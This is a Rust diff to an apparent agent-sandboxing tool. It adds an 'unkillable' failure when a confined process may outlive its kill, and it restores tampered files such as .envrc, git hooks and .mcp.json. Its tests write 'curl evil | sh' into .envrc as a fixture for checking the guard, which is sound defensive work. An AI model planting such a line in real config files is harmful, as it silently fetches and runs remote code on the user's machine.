@@ -230,6 +230,12 @@ impl Confined {
     /// successful `output` (its `sandbox` and `network` fields). A change to a file that runs
     /// later which the call did not name is put back and fails the call, whatever the
     /// command's own result.
+    ///
+    /// After a run that did not end ([`ended`]), the comparison is made all the same, and
+    /// what changed put back, but it is not the last word: the call fails `unkillable`,
+    /// saying what the comparison found, that a change made after it is not caught, and what
+    /// the process still has (its own sandbox) and no longer has (the call's proxy and
+    /// `TMPDIR`, ended here).
     pub(crate) fn attach(
         self,
         output: Result<ToolOutput, ToolError>,
@@ -239,7 +245,14 @@ impl Confined {
             .guards()
             .iter()
             .try_for_each(crate::later::check_after);
+        let confined = self.child.prepared().is_some();
         let (sandbox, network) = self.finish();
+        let output = match output {
+            Err(error) if error.code == ToolErrorCode::Unkillable => {
+                return Err(after_unended(error, later, confined));
+            }
+            output => output,
+        };
         later?;
         let mut output = output?;
         if let Some(object) = output.value.as_object_mut() {
@@ -282,6 +295,58 @@ impl Confined {
     }
 }
 
+/// Stage 7, after each run: the run's unknowns when every process of it is known to be gone,
+/// else the call's failure (`unkillable`). A process that would not die when killed, kept
+/// its output open from outside the tree, was alive at the last look (or could not be looked
+/// for), or a cgroup not cleanly ended, may still write in the workspace after the files that
+/// run later are compared, so the comparison cannot be the call's clean bill. `ran` says how
+/// the command ended, `tails` the last of its output: what it wrote to toolgate's pipes while
+/// it ran, which a timeout's error gives too, and no more.
+pub(crate) fn ended(
+    ended: bool,
+    ran: &str,
+    tails: &str,
+    unknowns: Vec<String>,
+) -> Result<Vec<String>, ToolError> {
+    if ended {
+        return Ok(unknowns);
+    }
+    let mut error = ToolError::new(
+        ToolErrorCode::Unkillable,
+        format!(
+            "{ran}, but a process it started could not be confirmed ended after it was killed \
+             ({}); {tails}",
+            unknowns.join("; ")
+        ),
+    );
+    error.unknowns = unknowns;
+    Err(error)
+}
+
+/// The `unkillable` failure of a call, once its confinement is ended: what the comparison of
+/// the files that run later found (`later`), and what that cannot vouch for.
+fn after_unended(mut error: ToolError, later: Result<(), ToolError>, confined: bool) -> ToolError {
+    let found = match later {
+        Ok(()) => "none had changed".to_owned(),
+        Err(changed) => changed.message,
+    };
+    let sandbox = if confined {
+        "a process still running stays in its sandbox, which cannot be lifted: it can still \
+         write the workspace"
+    } else {
+        "a process still running runs UNCONFINED (the operator's `dangerous-unconfined` \
+         setting)"
+    };
+    let _ = write!(
+        error.message,
+        "; the files that run later were compared after the call: {found}; a change made \
+         after that comparison is not caught: look at them (git's hooks and config, \
+         `.claude/`, `.mcp.json`, `.envrc`, …) once the process is gone; the call's TMPDIR \
+         was removed and its proxy, if it had one, stopped; {sandbox}"
+    );
+    error
+}
+
 /// Whether `resource` is one [`bind`] adds.
 pub(crate) fn is_confinement_resource(resource: &Resource) -> bool {
     matches!(resource, Resource::Network(_) | Resource::Sandbox(_))
@@ -322,5 +387,83 @@ pub(crate) fn sandbox_error_code(error: &SandboxError) -> ToolErrorCode {
         SandboxError::PathFd(_) | SandboxError::Landlock(_) | SandboxError::Seccomp(_) => {
             ToolErrorCode::SandboxFailed
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A run after which every process is known gone gives its unknowns back (a leftover that
+    /// was killed included); one after which a process may still run (here by the run's word:
+    /// one that will not die cannot be made in a test) fails `unkillable`, naming it, whatever
+    /// the command's own exit.
+    #[test]
+    fn a_run_that_did_not_end_fails_the_call() {
+        let killed = vec![toolgate_exec::unknown::DETACHED.to_owned()];
+        assert!(
+            ended(true, "`sh` exited with status 0", "", Vec::new())
+                .unwrap()
+                .is_empty()
+        );
+        assert_eq!(
+            ended(true, "`sh` exited with status 0", "", killed.clone()).unwrap(),
+            killed,
+            "killed and gone"
+        );
+        let unknowns = vec![
+            toolgate_exec::unknown::UNKILLABLE.to_owned(),
+            toolgate_exec::unknown::survivor(4242, "sleep"),
+        ];
+        let error = ended(
+            false,
+            "`sh` exited with status 0",
+            "stdout (2 bytes) ended with: \"ok\"",
+            unknowns.clone(),
+        )
+        .unwrap_err();
+        assert_eq!(error.code, ToolErrorCode::Unkillable, "{error:?}");
+        assert_eq!(error.unknowns, unknowns);
+        for said in [
+            "`sh` exited with status 0",
+            "could not be confirmed ended",
+            "process 4242 (`sleep`)",
+            "ended with: \"ok\"",
+        ] {
+            assert!(error.message.contains(said), "{said}: {error:?}");
+        }
+    }
+
+    /// After a run that did not end, the files that run later are still compared and put
+    /// back, and the failure says what was found and that a later change is not caught; the
+    /// call's `TMPDIR` is gone. A run that ended keeps the old answer: `runs_later_changed`.
+    #[test]
+    fn the_guard_still_puts_back_after_a_run_that_did_not_end() {
+        let ws = tempfile::tempdir().unwrap();
+        let root = ws.path().canonicalize().unwrap();
+        let confinement = Confinement::dangerous_unconfined();
+        let unkillable =
+            || ended(false, "`sh` exited with status 0", "", vec!["x".to_owned()]).unwrap_err();
+
+        let confined = start(&confinement, &root, &[], &[]).unwrap();
+        let temp = confined.child.env()[0].1.clone();
+        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
+        let error = confined.attach(Err(unkillable())).unwrap_err();
+        assert_eq!(error.code, ToolErrorCode::Unkillable, "{error:?}");
+        assert!(!root.join(".envrc").exists(), "put back");
+        assert!(!std::path::Path::new(&temp).exists(), "TMPDIR removed");
+        for said in [".envrc", "not caught", "UNCONFINED"] {
+            assert!(error.message.contains(said), "{said}: {error:?}");
+        }
+
+        let confined = start(&confinement, &root, &[], &[]).unwrap();
+        let error = confined.attach(Err(unkillable())).unwrap_err();
+        assert!(error.message.contains("none had changed"), "{error:?}");
+
+        let confined = start(&confinement, &root, &[], &[]).unwrap();
+        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
+        let error = confined.attach(Ok(ToolOutput::new(json!({})))).unwrap_err();
+        assert_eq!(error.code, ToolErrorCode::RunsLaterChanged, "{error:?}");
+        assert!(!root.join(".envrc").exists(), "put back");
     }
 }
